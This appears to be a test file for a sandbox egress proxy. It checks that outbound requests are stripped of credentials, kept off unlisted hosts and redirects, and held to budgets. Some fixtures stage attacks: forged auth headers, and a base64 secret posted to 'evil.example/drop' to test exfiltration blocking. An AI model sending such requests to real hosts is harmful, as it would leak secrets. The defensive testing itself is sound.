import { describe, expect, it } from 'vitest';
import { totalOnly } from '../core/grant.ts';
import {
  apiKey,
  body,
  completed,
  fetchRefs,
  infoRefs,
  model,
  readToken,
  redirect,
  streamOf,
  uploadPack,
  world,
} from '../../test/fixtures/egress-world.ts';
import { exampleGrant } from '../../test/fixtures/example-grant.ts';
import { handleEgress, type EgressDeps } from './handler.ts';
import { egressLimits } from './limits.ts';

describe('a request to an upstream', () => {
  it('has our key and none of the sandbox’s own credentials', async () => {
    const { ask, calls } = world(() => new Response(completed), {
      openaiOrganization: 'org-ours',
      openaiProject: 'proj-ours',
    });
    await ask(
      model({
        headers: {
          authorization: 'Bearer sk-attacker',
          cookie: 'a=b',
          'openai-organization': 'org-evil',
          'openai-project': 'proj-evil',
          'openai-beta': 'everything=on',
          'x-codex-unheard-of': '1',
          'x-codex-beta-features': 'remote_compaction_v2,hosted_everything',
          'x-http-method-override': 'DELETE',
          'x-forwarded-host': 'evil.example',
          'x-codex-turn-metadata': '{}',
          'user-agent': 'x'.repeat(10_000),
        },
      }),
    );
    expect(calls).toHaveLength(1);
    expect(calls[0]).toMatchObject({ url: 'https://gateway.example/v1/responses', redirect: 'manual', body });
    expect(Object.fromEntries(calls[0]?.headers ?? [])).toEqual({
      'accept-encoding': 'identity',
      authorization: `Bearer ${apiKey}`,
      'content-type': 'application/json',
      'openai-organization': 'org-ours',
      'openai-project': 'proj-ours',
      'x-codex-turn-metadata': '{}',
    });
  });

  it('has the body that was decided, serialised again', async () => {
    const { ask, calls } = world(() => new Response(completed));
    await ask(model({ body: body.replace('"store":false', ' "st\\u006fre" : false') }));
    expect(calls[0]?.body).toBe(body);
  });

  it('names the repository of the grant and has the narrowed token', async () => {
    const { ask, calls } = world(() => new Response('refs'));
    const { text } = await ask(
      fetchRefs({ authorization: 'Basic evil', 'git-protocol': 'version=2', 'x-extra': 'no' }, 'ACME/App'),
    );
    expect(text).toBe('refs');
    expect(calls[0]?.url).toBe(`https://ghe.example/acme/app.git/${infoRefs}`);
    expect(Object.fromEntries(calls[0]?.headers ?? [])).toMatchObject({
      authorization: `Basic ${btoa(`x-access-token:${readToken}`)}`,
      'git-protocol': 'version=2',
    });
    expect(calls[0]?.headers.has('x-extra')).toBe(false);
  });

  it.each(['version=2:secret', 'version=99', 'source=c291cmNl'])(
    'does not carry the protocol version %s',
    async (version) => {
      const { ask, calls } = world(() => new Response('refs'));
      await ask(fetchRefs({ 'git-protocol': version }));
      expect(calls[0]?.headers.has('git-protocol')).toBe(false);
    },
  );

  it('keeps a compressed upload-pack body as it came', async () => {
    const { ask, calls, entries } = world(() => new Response('pack'));
    await ask(uploadPack('not really gzip', { 'content-encoding': 'gzip', expect: '100-continue' }));
    expect(calls[0]).toMatchObject({ method: 'POST', body: 'not really gzip' });
    expect(calls[0]?.headers.get('content-encoding')).toBe('gzip');
    expect(calls[0]?.headers.has('expect')).toBe(false);
    expect(entries).toMatchObject([{ entry: { rule: 'github.upload-pack', bytesUp: 15, bytesDown: 4 } }]);
  });

  it('has no credential when it goes to a listed host', async () => {
    const { ask, calls } = world(() => new Response('package'), { grant: { phase: 'setup' } });
    const { text } = await ask(
      new Request('http://registry.example.com/a?b', {
        headers: { authorization: 'Bearer own', cookie: 'a', accept: '*/*' },
      }),
    );
    expect(text).toBe('package');
    expect(calls[0]?.url).toBe('https://registry.example.com/a?b');
    expect(Object.fromEntries(calls[0]?.headers ?? [])).toEqual({
      accept: '*/*',
      'accept-encoding': 'identity',
    });
  });
});

describe('the record of a request', () => {
  it('has the tokens that the stream reports, and the bytes in both directions', async () => {
    const { ask, entries } = world(() => new Response(completed));
    expect((await ask(model())).text).toBe(completed);
    expect(entries).toMatchObject([
      {
        tokens: totalOnly(77),
        entry: {
          verdict: 'allowed',
          host: 'api.openai.com',
          bytesUp: body.length,
          bytesDown: completed.length,
        },
      },
    ]);
  });

  it.each([
    ['a floor, as reasoning is invisible', 400, egressLimits.unreportedTokens],
    ['the count by its bytes where that is more', 400_000, 100_000],
  ])('charges %s when the sandbox hangs up before the usage came', async (_, bytes, tokens) => {
    const { deps, entries } = world(() => new Response(streamOf(bytes, 1_000_000)), {
      grant: { budgets: { ...exampleGrant.budgets, bytesDown: 10 * bytes } },
    });
    const response = await handleEgress(model(), 'known', deps);
    const reader = response.body?.getReader();
    await reader?.read();
    await reader?.cancel();
    await expect.poll(() => entries[0]?.tokens.totalTokens ?? 0).toBeGreaterThanOrEqual(tokens);
    expect(entries[0]?.tokens.totalTokens).toBeLessThan(3 * tokens);
  });

  it('never has a query, a header, a body or a long segment of a path', async () => {
    const { ask, entries } = world(() => new Response('never'));
    const secret = 'c291cmNlIG9mIHRoZSByZXBvc2l0b3J5IGluIGJhc2U2NA';
    await ask(
      new Request(`https://evil.example/drop/${secret}/1/2/3/4/5/6?q=${secret}`, {
        method: 'POST',
        body: secret,
        headers: { 'x-a': secret },
      }),
    );
    expect(entries.map(({ entry }) => entry)).toMatchObject([
      { path: '/drop/…/1/2/3/4/…', rule: 'host.not-granted' },
    ]);
    expect(JSON.stringify(entries)).not.toContain(secret);
  });
});

describe('a denial', () => {
  it.each([
    ['an unknown sandbox', 'other', model(), 403, 'grant.none', 0],
    [
      'a forbidden host',
      'known',
      new Request('https://evil.example/drop', { method: 'POST', body: 'source' }),
      403,
      'host.not-granted',
      1,
    ],
    ['a forbidden body', 'known', model({ body: '{"model":"x"}' }), 400, 'openai.field', 1],
    [
      'a body that is too large',
      'known',
      model({ body: 'x'.repeat(egressLimits.openaiBodyBytes + 1) }),
      400,
      'openai.size',
      1,
    ],
    [
      'an LFS upload',
      'known',
      new Request('https://github.com/acme/app.git/info/lfs/objects/batch', {
        method: 'POST',
        body: '{"operation":"upload","objects":[]}',
        headers: { 'content-type': 'application/vnd.git-lfs+json' },
      }),
      403,
      'github.lfs-upload',
      1,
    ],
  ])('calls no upstream: %s', async (_, id, request, status, code, entryCount) => {
    const { ask, calls, recorded } = world(() => new Response('must not be asked'), {
      grant: { phase: code.includes('lfs') ? 'clone' : 'run' },
    });
    const response = await ask(request, id);
    expect(response.status).toBe(status);
    expect(JSON.parse(response.text)).toMatchObject({ error: { type: 'airlock_egress', code } });
    expect(calls).toEqual([]);
    expect(recorded()).toEqual(entryCount === 0 ? [] : [`denied ${code} ${status}`]);
  });

  it('meets a fifth model request while four are open, and not the one after they ended', async () => {
    const { deps, ask } = world(() => new Response(streamOf(1, 2)));
    const open = await Promise.all([1, 2, 3, 4].map(async () => await handleEgress(model(), 'known', deps)));
    const { status, text } = await ask(model());
    expect([status, JSON.parse(text)]).toMatchObject([503, { error: { code: 'openai.concurrency' } }]);
    await Promise.all(open.map(async (response) => await response.text()));
    expect((await ask(model())).status).toBe(200);
  });

  it.each([
    ['OpenAI', model(), redirect('https://evil.example', 307), 400, 'openai.redirect'],
    [
      'a listed host, to another',
      new Request('https://docs.example.com/'),
      redirect('https://evil.example/x'),
      403,
      'host.redirect',
    ],
    [
      'a listed host, to GitHub',
      new Request('https://docs.example.com/'),
      redirect('https://github.com/acme/app'),
      403,
      'host.redirect',
    ],
    [
      'a listed host, to nowhere',
      new Request('https://docs.example.com/'),
      () => new Response(null, { status: 302 }),
      403,
      'host.redirect',
    ],
  ])('meets a redirect of %s, and shows no location', async (_, request, upstream, status, code) => {
    const { ask, calls } = world(upstream);
    const response = await ask(request);
    expect(response.status).toBe(status);
    expect(response.text).toContain(code);
    expect(response.headers.has('location')).toBe(false);
    expect(calls).toHaveLength(1);
  });
});

it('returns a redirect between listed hosts, and decides the next request separately', async () => {
  const { ask, calls } = world(redirect('//both.example.com/y', 302));
  const response = await ask(new Request('https://docs.example.com/x'));
  expect([response.status, response.headers.get('location')]).toEqual([302, 'https://both.example.com/y']);
  expect(calls).toHaveLength(1);
});

it('records a request with its time of arrival, however long its answer took', async () => {
  let time = 1_000;
  const slow = () => {
    time += 60_000;
    return redirect('https://evil.example')();
  };
  const { ask, entries } = world(slow, { now: () => time });
  await ask(fetchRefs());
  expect(entries.map(({ entry }) => entry.at)).toEqual([1_000]);
});

describe('a redirect of a fetch', () => {
  it.each([
    ['the new name of the same repository', `https://ghe.example/acme/new-name.git/${infoRefs}`],
    ['another repository of the grant', `https://ghe.example/acme/shared.css.git/${infoRefs}`],
    ['another host', `https://evil.example/acme/app.git/${infoRefs}`],
    ['another port', `https://ghe.example:8443/acme/app.git/${infoRefs}`],
    ['a URL without TLS', `http://ghe.example/acme/app.git/${infoRefs}`],
    ['a URL with a user name', `https://u@ghe.example/acme/app.git/${infoRefs}`],
    ['a push', 'https://ghe.example/acme/app.git/info/refs?service=git-receive-pack'],
    ['another endpoint', 'https://ghe.example/acme/app/archive/main.zip'],
    ['nowhere', ''],
  ])('is not followed to %s', async (_, location) => {
    const { ask, calls, recorded } = world(redirect(location));
    expect((await ask(fetchRefs())).text).toContain('github.redirect');
    expect(calls).toHaveLength(1);
    expect(recorded()).toEqual(['failed github.redirect 403']);
  });
});

it('passes on a 404 of GitHub', async () => {
  const { ask, calls } = world(() => new Response('Repository not found.', { status: 404 }));
  expect(await ask(fetchRefs())).toMatchObject({ status: 404, text: 'Repository not found.' });
  expect(calls).toHaveLength(1);
});

it('denies a transfer while one sandbox has as many open as it may, until one of them ends', async () => {
  const { deps, recorded } = world(() => new Response(streamOf(1, 1_000_000)), {
    admit: async () => exampleGrant,
  });
  const get = async (id: string) => await handleEgress(new Request('https://docs.example.com/'), id, deps);
  const open = await Promise.all(
    Array.from({ length: egressLimits.openTransfers }, async () => await get('many')),
  );
  expect(new Set(open.map(({ status }) => status))).toEqual(new Set([200]));
  const refused = await get('many');
  expect([refused.status, await refused.text()]).toEqual([
    429,
    expect.stringContaining('transfer.concurrency'),
  ]);
  const other = await get('another');
  expect(other.status).toBe(200);
  await open[0]?.body?.cancel();
  const next = await get('many');
  expect(next.status).toBe(200);
  expect(recorded()).toEqual(['denied transfer.concurrency 429', 'allowed host.extra 200']);
  await Promise.all([...open.slice(1), other, next].map(async ({ body }) => await body?.cancel()));
});

it.each([
  ['an upstream that fails', () => Promise.reject(new Error('gone')), fetchRefs()],
  ['a refused redirect', redirect('https://evil.example'), new Request('https://docs.example.com/')],
  ['an answer without a body', () => new Response(null, { status: 304 }), fetchRefs()],
])('counts no transfer as open after %s', async (_, upstream, request) => {
  const { ask, recorded } = world(upstream, {
    grant: { budgets: { ...exampleGrant.budgets, requests: 1_000 } },
  });
  for (let n = 0; n <= egressLimits.openTransfers; n++) await ask(request.clone());
  expect(recorded().filter((line) => line.includes('concurrency'))).toEqual([]);
});

describe('budgets of bytes', () => {
  const budgets = { ...exampleGrant.budgets, bytesUp: 20, bytesDown: 1_000 };

  it('cut off an answer at the limit, and record it once', async () => {
    const { ask, entries, recorded } = world(() => new Response(streamOf(300, 10)), {
      grant: { budgets, used: { ...exampleGrant.used, bytesDown: 300 } },
    });
    expect((await ask(fetchRefs())).text).toBe('cut off');
    expect(recorded()).toEqual(['denied budget.bytes-down 200']);
    expect(entries[0]?.entry.bytesDown).toBe(600);
  });

  it('cut off an upload at the limit, and record it once', async () => {
    const { ask, recorded } = world(() => new Response('never'), { grant: { budgets } });
    expect((await ask(uploadPack('x'.repeat(21)))).text).toContain('budget.bytes-up');
    expect(recorded()).toEqual(['denied budget.bytes-up 400']);
  });

  it('deny a model request that is larger than what is left', async () => {
    const { ask, calls } = world(() => new Response('never'), { grant: { budgets } });
    expect((await ask(model())).text).toContain('budget.bytes-up');
    expect(calls).toEqual([]);
  });
});

describe('Git LFS', () => {
  const oid = 'ab12'.repeat(16);
  const batch = (content: unknown) =>
    new Request('https://github.com/acme/app.git/info/lfs/objects/batch', {
      method: 'POST',
      body: JSON.stringify(content),
      headers: { 'content-type': 'application/vnd.git-lfs+json; charset=utf-8' },
    });
  const download = (href: string) => ({
    objects: [{ oid, size: 4, actions: { download: { href, header: { 'x-signed': 'yes' } } } }],
  });
  const object = new Request(`https://github.com/acme/app.git/info/lfs/objects/${oid}/4`);
  const clone = { grant: { phase: 'clone' as const } };

  it('shows the sandbox URLs of ours, and fetches from GitHub’s storage without our token', async () => {
    const { ask, calls, recorded } = world(
      ({ url }) =>
        url.startsWith('https://ghe.example')
          ? Response.json(download('https://objects.example/signed?x=1'))
          : new Response('data'),
      clone,
    );
    const { text } = await ask(
      batch({
        operation: 'download',
        objects: [{ oid, size: 4 }],
        extra: 'no',
        ref: { name: 'refs/heads/main' },
      }),
    );
    expect(text).not.toContain('objects.example');
    expect(JSON.parse(text)).toMatchObject({
      objects: [
        { actions: { download: { href: `https://github.com/acme/app.git/info/lfs/objects/${oid}/4` } } },
      ],
    });
    expect(calls[0]?.body).toBe(
      JSON.stringify({
        operation: 'download',
        transfers: ['basic'],
        hash_algo: 'sha256',
        objects: [{ oid, size: 4 }],
      }),
    );
    expect((await ask(object.clone())).text).toBe('data');
    expect(calls.map(({ url }) => url).slice(1)).toEqual([
      'https://ghe.example/acme/app.git/info/lfs/objects/batch',
      'https://objects.example/signed?x=1',
    ]);
    expect(Object.fromEntries(calls[2]?.headers ?? [])).toEqual({
      'accept-encoding': 'identity',
      'x-signed': 'yes',
    });
    expect(recorded()).toEqual(['allowed github.lfs-batch 200', 'allowed github.lfs-object 200']);
  });

  it.each([
    [
      'an object that GitHub does not have',
      { objects: [{ oid, size: 4, error: { code: 404, message: 'no' } }] },
    ],
    [
      'another object',
      {
        objects: [
          { oid: 'cd34'.repeat(16), size: 4, actions: { download: { href: 'https://objects.example/' } } },
        ],
      },
    ],
    ['a URL without TLS', download('http://objects.example/')],
    ['a URL with a user name', download('https://a:b@objects.example/')],
    ['something else', { hello: 1 }],
  ])('does not fetch %s', async (_, answer) => {
    const { ask, calls } = world(() => Response.json(answer), clone);
    expect((await ask(object.clone())).text).toContain('github.lfs-upstream');
    expect(calls).toHaveLength(1);
  });

  const batchAt = (name: string) => `https://ghe.example/acme/${name}.git/info/lfs/objects/batch`;
  it.each<[string, number, string, string?]>([
    ['the new name of the same repository', 301, batchAt('new-name')],
    ['the new name, keeping the method', 307, batchAt('new-name')],
    ['another repository of the grant', 308, batchAt('shared.css')],
    ['another host', 302, 'https://evil.example/acme/app.git/info/lfs/objects/batch'],
    ['another endpoint', 301, 'https://ghe.example/acme/app.git/git-upload-pack'],
    ['nothing, as the repository is gone', 404, '', 'upstream.status'],
  ])('follows no batch to %s', async (_, status, location, code = 'github.lfs-upstream') => {
    const { ask, calls } = world(() => new Response(null, { status, headers: { location } }), clone);
    expect((await ask(object.clone())).text).toContain(code);
    expect(calls).toHaveLength(1);
  });

  it('follows no redirect of an object', async () => {
    const { ask, calls } = world(
      ({ url }) =>
        url.startsWith('https://ghe.example')
          ? Response.json(download('https://objects.example/'))
          : redirect('https://evil.example/')(),
      clone,
    );
    expect((await ask(object.clone())).text).toContain('github.redirect');
    expect(calls).toHaveLength(2);
  });
});

describe('the answer to the sandbox', () => {
  it.each([
    [
      'the upstream fails',
      { fetch: async () => Promise.reject(new Error(`connect failed with ${apiKey}`)) },
      'upstream.unreachable',
      'api.openai.com could not be reached',
    ],
    [
      'no token can be minted',
      { readToken: async () => Promise.reject(new Error(readToken)) },
      'github.no-token',
      'no read token for the repository could be obtained',
    ],
    [
      'the record does not answer',
      { admit: async () => Promise.reject(new Error('secret internals')) },
      'grant.unreadable',
      'the grant of this sandbox could not be read',
    ],
    [
      'we have a defect',
      {
        // No answer has such a status: passing it on throws.
        fetch: async () => Response.error(),
      },
      'internal',
      'the request could not be carried out',
    ],
  ])('shows nothing of our insides when %s', async (_, changes: Partial<EgressDeps>, code, reason) => {
    const { ask } = world(() => new Response(''), changes);
    const { status, text } = await ask('readToken' in changes ? fetchRefs() : model());
    expect(status).toBe(502);
    expect(JSON.parse(text)).toEqual({
      error: { message: `Airlock: ${reason}`, type: 'airlock_egress', code, param: null },
    });
  });

  it.each([
    [401, { error: { message: `Incorrect API key provided: ${apiKey}` } }, 400, 'openai.unauthorized'],
    [403, { error: { message: 'Project proj_secret is archived' } }, 400, 'openai.unauthorized'],
    [
      429,
      {
        error: {
          message: 'Rate limit reached for gpt-5.5 in organization org-secret on tokens',
          type: 'tokens',
          code: 'rate_limit_exceeded',
        },
      },
      429,
      'Rate limit reached for gpt-5.5 in organization [removed] on tokens',
    ],
    [404, { error: { message: 'The model does not exist' } }, 400, 'The model does not exist'],
    [413, '', 400, 'OpenAI answered with status 413'],
    [408, '', 408, 'OpenAI answered with status 408'],
    [500, '<html>proxy of org-secret</html>', 500, 'OpenAI answered with status 500'],
  ])(
    'passes on OpenAI’s error %i without what identifies our account',
    async (status, answer, passed, words) => {
      const { ask } = world(
        () =>
          new Response(typeof answer === 'string' ? answer : JSON.stringify(answer), {
            status,
            headers: { 'retry-after': '7', 'openai-organization': 'org-secret' },
          }),
      );
      const response = await ask(model());
      expect(response.status).toBe(passed);
      expect(response.text).toContain(words);
      expect(JSON.stringify([...response.headers]) + response.text).not.toMatch(/secret|sk-the|<html>/);
    },
  );

  it('has no header that sets state or identifies our account', async () => {
    const { ask } = world(
      () =>
        new Response(completed, {
          headers: {
            'set-cookie': 'a=b',
            'x-request-id': 'r',
            'content-type': 'text/event-stream',
            link: '<https://evil.example>',
            'openai-organization': 'o',
            'x-codex-credits-balance': '1',
            'x-codex-turn-state': 's',
            location: 'https://evil.example',
          },
        }),
    );
    const { headers } = await ask(model());
    expect([...headers.keys()].toSorted()).toEqual(['content-type', 'x-codex-turn-state', 'x-request-id']);
  });

  it.each([204, 304])('keeps an answer without a body as it is: %i', async (status) => {
    const { ask, recorded } = world(() => new Response(null, { status }));
    expect((await ask(new Request('https://docs.example.com/'))).status).toBe(status);
    expect(recorded()).toEqual([`allowed host.extra ${status}`]);
  });

  it('lists the task’s models without asking OpenAI', async () => {
    const { ask, calls } = world(() => new Response('never'));
    expect(JSON.parse((await ask(new Request('https://api.openai.com/v1/models'))).text)).toMatchObject({
      data: [{ id: 'gpt-6.1-sol' }, { id: 'gpt-5.5' }],
    });
    expect(calls).toEqual([]);
  });
});
